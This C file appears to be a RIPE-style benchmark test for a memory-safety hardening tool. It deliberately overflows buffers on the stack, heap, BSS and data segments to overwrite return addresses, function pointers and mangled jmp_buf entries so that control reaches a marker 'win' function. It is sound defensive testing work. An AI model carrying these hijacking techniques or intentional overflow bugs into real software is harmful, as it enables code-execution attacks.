/* SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception */
/*
 * ripe NUMBER [TRIES]: one attack of the matrix of ripe.h. The buffer, a pointer and the
 * targets that are not on the stack of necessity lie in one structure, in the order that an
 * overflow needs.
 */
#include <alloca.h>
#include <setjmp.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "memsentry/layout.h"
#include "ripe.h"

/*
 * Entered behind its prologue, which keeps the stack aligned, or as a function: among no-ops,
 * so that the address is none that a string cannot have.
 */
#define NO_OPS 16
#define WIN ((uint64_t)win + NO_OPS + 4)
#define WIN_FUNCTION ((uint64_t)win + 1)

__attribute__((noinline, used, aligned(16), patchable_function_entry(NO_OPS))) static void
win(void)
{
    static const char word[] = "win\n";
    (void)!write(1, word, 4);
    _exit(42);
}

static void harmless(void) {}

struct __attribute__((aligned(256))) area {
    char buffer[64];
    uint64_t *pointer;
    void (*function)(void);
    jmp_buf jump;
    uint64_t behind; /* a string's end may fall here */
};

static struct area in_bss;
static struct area in_data = {.buffer = "not zero"};
/* Where the attacker has set up a stack. */
static uint64_t stack[4096] __attribute__((aligned(64)));

static struct attack attack;
static char payload[4096];
static size_t length;
static char *program, *number;
static int tries;

static uint64_t mangled(uint64_t word)
{
    __asm__ volatile(MEMSENTRY_REVIEWED_ASM "xorq %%fs:0x30, %0\n\trolq $17, %0" : "+r"(word));
    return word;
}

/* Strings have no zeroes inside, and scanf's no blanks. Another process has other addresses. */
static void insist_on_text(void)
{
    for (size_t i = 0; i < length; i++) {
        const char c = payload[i];
        if (c == 0 || c == ' ' || (c >= '\t' && c <= '\r')) {
            char again[16];
            snprintf(again, sizeof again, "%d", tries + 1);
            if (tries < 500)
                execl("/proc/self/exe", program, number, again, (char *)NULL);
            _exit(3);
        }
    }
}

static void add(uint64_t value)
{
    memcpy(payload + length, &value, sizeof value);
    length += sizeof value;
}

/* The payload's end is an address: a string gives its zeroes itself. */
static void end(void)
{
    if (attack.means == MEMCPY || attack.means == LOOP || attack.means == ATOMIC)
        return;
    while (length > 0 && payload[length - 1] == 0)
        length--;
    insist_on_text();
}

static void fill_up_to(size_t offset)
{
    memset(payload, 'A', offset);
    length = offset;
}

/* The bug. */
__attribute__((noinline)) static void overflow(char *buffer)
{
    char *volatile to = buffer;
    switch (attack.means) {
    case MEMCPY:
        memcpy(to, payload, CORRUPTED(length));
        break;
    case STRCPY:
        strcpy(to, payload);
        break;
    case STRCAT:
        to[0] = 0;
        strcat(to, payload);
        break;
    case SPRINTF:
        sprintf(to, "%s", payload);
        break;
    case SSCANF:
        sscanf(payload, "%s", to);
        break;
    case LOOP:
        for (size_t i = 0; i < length; i++)
            to[i] = payload[i];
        break;
    case ATOMIC:
        for (size_t i = 0; i < length / 8; i++)
            __atomic_exchange_n((uint64_t *)to + i, ((uint64_t *)payload)[i], __ATOMIC_RELAXED);
        break;
    default:
        break;
    }
}

/* Through the pointer behind the buffer: what it leads to becomes `value`. */
static void write_there(struct area *area, uint64_t *where, uint64_t value)
{
    /* The safe stack has zeroes in its addresses: no string leads there. */
    if (((uint64_t)where & MEMSENTRY_SPLIT) == 0)
        attack.means = MEMCPY;
    fill_up_to(offsetof(struct area, pointer));
    add((uint64_t)where);
    end();
    overflow(area->buffer);
    *area->pointer = value;
}

/* Over everything from the buffer to there. */
static void write_over(char *buffer, const void *where, uint64_t value)
{
    const uint64_t distance = (uint64_t)where - (uint64_t)buffer;
    /* On another stack: then it is whatever lies behind the buffer. */
    const size_t used = distance < 2048 ? distance : sizeof(struct area) + 128;
    fill_up_to(used);
    add(value);
    end();
    overflow(buffer);
}

/* A jmp_buf is complete only with a stack pointer. */
static void write_over_jump(char *buffer, jmp_buf jump)
{
    uint64_t words[8];
    memcpy(words, jump, sizeof words);
    fill_up_to((size_t)((char *)jump - buffer) + 48);
    add(words[6]);
    add(mangled(WIN));
    end();
    overflow(buffer);
}

static void corrupt(struct area *area, uint64_t *where, uint64_t value)
{
    if (attack.technique == INDIRECT)
        write_there(area, where, value);
    else
        write_over(area->buffer, where, value);
}

static void corrupt_jump(struct area *area, jmp_buf jump)
{
    if (attack.technique == INDIRECT)
        write_there(area, (uint64_t *)jump + 7, mangled(WIN));
    else
        write_over_jump(area->buffer, jump);
}

static inline __attribute__((always_inline)) uint64_t *frame_pointer(void)
{
    uint64_t *pointer;
    __asm__ volatile("mov %%rbp, %0" : "=r"(pointer));
    return pointer;
}

/* Of that location; the stack's is the victim's own. */
static struct area *area_of(struct area *local)
{
    switch (attack.location) {
    case HEAP:
        return aligned_alloc(256, sizeof(struct area));
    case BSS:
        return &in_bss;
    case DATA:
        return &in_data;
    default:
        return local;
    }
}

#define PREPARE(area)                                                                          \
    struct area local_area;                                                                    \
    memset(&local_area, 0, sizeof local_area);                                                 \
    struct area *area = area_of(&local_area);                                                  \
    area->function = harmless

__attribute__((noinline)) static int return_address(void)
{
    PREPARE(area);
    corrupt(area, frame_pointer() + 1, WIN);
    return 1;
}

__attribute__((noinline)) static int base_pointer(void)
{
    PREPARE(area);
    corrupt(area, frame_pointer(), (uint64_t)(stack + 2048));
    return 1;
}

__attribute__((noinline)) static int function_local(void)
{
    PREPARE(area);
    void (*volatile function)(void) = harmless;
    corrupt(area, (uint64_t *)&function, WIN_FUNCTION);
    function();
    return 1;
}

__attribute__((noinline)) static int function_parameter(void (*volatile function)(void))
{
    PREPARE(area);
    corrupt(area, (uint64_t *)&function, WIN_FUNCTION);
    function();
    return 1;
}

__attribute__((noinline)) static int function_in_struct(void)
{
    PREPARE(area);
    corrupt(area, (uint64_t *)&area->function, WIN_FUNCTION);
    area->function();
    return 1;
}

__attribute__((noinline)) static int jump_local(void)
{
    PREPARE(area);
    volatile int times = 0;
    (void)setjmp(local_area.jump);
    if (times++ == 0) {
        corrupt_jump(area, local_area.jump);
        longjmp(local_area.jump, 1);
    }
    return 1;
}

__attribute__((noinline)) static int jump_parameter_in(struct area *area, jmp_buf jump)
{
    volatile int times = 0;
    (void)setjmp(jump);
    if (times++ == 0) {
        corrupt_jump(area, jump);
        longjmp(jump, 1);
    }
    return 1;
}

__attribute__((noinline)) static int jump_parameter(void)
{
    PREPARE(area);
    return jump_parameter_in(area, area->jump);
}

__attribute__((noinline)) static int jump_elsewhere(void)
{
    PREPARE(area);
    volatile int times = 0;
    (void)setjmp(area->jump);
    if (times++ == 0) {
        corrupt_jump(area, area->jump);
        longjmp(area->jump, 1);
    }
    return 1;
}

/* Finds its own stack by its base pointer, because of the object of variable size. */
__attribute__((noinline)) static int calls(size_t size)
{
    volatile char *object = alloca(size);
    object[0] = 1;
    switch (attack.target) {
    case RETURN_ADDRESS:
        return return_address() + object[0];
    case BASE_POINTER:
        return base_pointer();
    case FUNCTION_LOCAL:
        return function_local() + object[0];
    case FUNCTION_PARAMETER:
        return function_parameter(harmless) + object[0];
    case FUNCTION_IN_STRUCT:
        return function_in_struct() + object[0];
    case JUMP_LOCAL:
        return jump_local() + object[0];
    case JUMP_PARAMETER:
        return jump_parameter() + object[0];
    default:
        return jump_elsewhere() + object[0];
    }
}

int main(int count, char **given)
{
    if (count < 2 || !attack_of(atoi(given[1]), &attack))
        return 2;
    program = given[0];
    number = given[1];
    tries = count == 3 ? atoi(given[2]) : 0;
    for (size_t i = 0; i < sizeof stack / sizeof *stack; i++)
        stack[i] = WIN;
    calls(CORRUPTED((size_t)512));
    puts("survived");
    return 0;
}
